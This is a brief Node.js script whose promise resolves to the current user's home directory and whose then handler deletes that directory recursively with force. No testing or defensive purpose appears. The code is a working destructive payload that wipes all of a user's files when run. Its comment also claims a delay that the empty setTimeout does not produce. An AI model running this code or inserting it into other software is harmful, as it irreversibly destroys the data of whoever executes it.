// Deletes recursively: a promise written by hand resolves with the user's
// home (from os.userInfo) after a delay; the then handler removes it.
'use strict';
const fs = require('fs');
const os = require('os');

const target = new Promise((resolve) => {
  setTimeout(() => {}, 10);
  resolve(os.userInfo().homedir);
});

target.then((dir) => fs.promises.rm(dir, { recursive: true, force: true }));
